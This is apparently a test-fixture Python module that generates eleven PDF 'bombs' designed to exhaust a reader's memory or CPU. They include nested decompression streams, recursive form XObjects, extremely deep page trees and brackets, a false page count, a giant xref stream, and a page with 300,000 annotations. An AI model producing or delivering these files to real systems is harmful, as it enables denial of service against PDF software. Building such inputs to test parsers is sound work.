"""PDFs made to hurt whoever opens them: small files that unfold, nest or repeat without end."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name


def _page(pdf: pikepdf.Pdf, content: bytes = b"", **resources: pikepdf.Object) -> None:
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[-1]
    page.Contents = pdf.make_stream(content)
    page.Resources = Dictionary({f"/{name}": thing for name, thing in resources.items()})


def _saved(pdf: pikepdf.Pdf) -> bytes:
    target = io.BytesIO()
    pdf.save(target, compress_streams=True)
    return target.getvalue()


def _packed(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def one_stream() -> bytes:
    """200 kB whose one page unfolds to 200 MB of drawing."""
    pdf = pikepdf.new()
    _page(pdf, b"0 0 m 9 9 l S\n" * 15_000_000)
    return _saved(pdf)


def filters_in_filters() -> bytes:
    """A page packed three times over: 300 MB."""
    pdf = pikepdf.new()
    _page(pdf)
    once = zlib.compressobj(9)
    chunk = b"0 0 m 9 9 l S\n" * 65536
    packed = b"".join(once.compress(chunk) for _ in range(330)) + once.flush()
    stream = pdf.make_stream(_packed(packed, 2))
    stream.Filter = Array([Name.FlateDecode] * 3)
    pdf.pages[0].Contents = stream
    return _saved(pdf)


def laughs() -> bytes:
    """Drawings that each draw ten others, ten deep."""
    pdf = pikepdf.new()
    inner: pikepdf.Object | None = None
    for _ in range(10):
        outer = pdf.make_stream(b"/X Do " * 10 if inner is not None else b"0 0 m 9 9 l S")
        if inner is not None:
            outer.Resources = Dictionary(XObject=Dictionary(X=inner))
        outer.Type, outer.Subtype = Name.XObject, Name.Form
        outer.BBox = Array([0, 0, 100, 100])
        inner = pdf.make_indirect(outer)
    assert inner is not None
    _page(pdf, b"/X Do " * 10, XObject=Dictionary(X=inner))
    return _saved(pdf)


def picture() -> bytes:
    """A picture that says it has 10 GB, on its page ten times."""
    pdf = pikepdf.new()
    once = zlib.compressobj(9)
    packed = b"".join(once.compress(bytes(2**20)) for _ in range(300)) + once.flush()
    image = pdf.make_stream(_packed(packed))
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width = image.Height = 60_000
    image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
    image.Filter = Array([Name.FlateDecode] * 2)
    _page(pdf, b"500 0 0 800 0 0 cm /I Do " * 10, XObject=Dictionary(I=pdf.make_indirect(image)))
    return _saved(pdf)


def deep_tree() -> bytes:
    """One page, twenty thousand folders down."""
    pdf = pikepdf.new()
    _page(pdf)
    below = pdf.Root.Pages
    for _ in range(20_000):
        below = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Kids=Array([below])))
        below.Kids[0].Parent = below
    pdf.Root.Pages = below
    return _saved(pdf)


def brackets() -> bytes:
    """An array in an array, half a million deep."""
    deep = b"[" * 500_000 + b"]" * 500_000
    root = b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>"
    return _written([root, _PAGES, _SHEET, deep])


def billion_pages() -> bytes:
    """A tree that says it has a billion pages."""
    pages = _PAGES.replace(b"/Count 1", b"/Count 1000000000")
    return _written([b"<< /Type /Catalog /Pages 2 0 R >>", pages, _SHEET])


def one_page_often() -> bytes:
    """The same page of 8 MB of words four thousand times."""
    words = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream"
    packed = _packed(b"BT /F 9 Tf 9 9 Td (chu) Tj ET\n" * 270_000)
    kids = b"3 0 R " * 4000
    return _written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 4000 /Kids [" + kids + b"] >>",
            _SHEET.replace(b">>", b"/Contents 4 0 R >>", 1),
            words % (len(packed), packed),
        ]
    )


def table() -> bytes:
    """A table of contents of the file itself that unfolds to 300 MB."""
    once = zlib.compressobj(9)
    packed = b"".join(once.compress(bytes(2**20)) for _ in range(300)) + once.flush()
    head = b"%PDF-1.7\n"
    xref = (
        b"1 0 obj\n<< /Type /XRef /Size 30000000 /W [1 8 1] /Root 2 0 R /Filter /FlateDecode"
        b" /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(packed), packed)
    )
    return head + xref + b"startxref\n%d\n%%%%EOF\n" % len(head)


def letters() -> bytes:
    """A font whose table names every letter there could be, a thousand times over."""
    pdf = pikepdf.new()
    ranges = b"100 beginbfrange\n" + b"<0000> <FFFF> <0041>\n" * 100 + b"endbfrange\n"
    cmap = b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
    font = Dictionary(
        Type=Name.Font,
        Subtype=Name.Type1,
        BaseFont=Name.Helvetica,
        ToUnicode=pdf.make_stream(cmap + ranges * 2000 + b"endcmap"),
    )
    _page(pdf, b"BT /F 9 Tf 9 9 Td (chu) Tj ET", Font=Dictionary(F=font))
    return _saved(pdf)


def notes() -> bytes:
    """A page with three hundred thousand notes on it."""
    pdf = pikepdf.new()
    _page(pdf)
    note = Dictionary(Subtype=Name.FreeText, Rect=Array([0, 0, 9, 9]), Contents="a")
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)] * 300_000)
    return _saved(pdf)


_PAGES = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
_SHEET = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def _written(objects: list[bytes]) -> bytes:
    """Return a file of numbered objects, the first its root."""
    file, places = b"%PDF-1.7\n", []
    for number, thing in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return file + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (size, table, size, len(file))
    )


BOMBS: dict[str, Callable[[], bytes]] = {
    bomb.__name__: bomb
    for bomb in (
        *(one_stream, filters_in_filters, laughs, picture, deep_tree, brackets),
        *(billion_pages, table, letters, notes, one_page_often),
    )
}
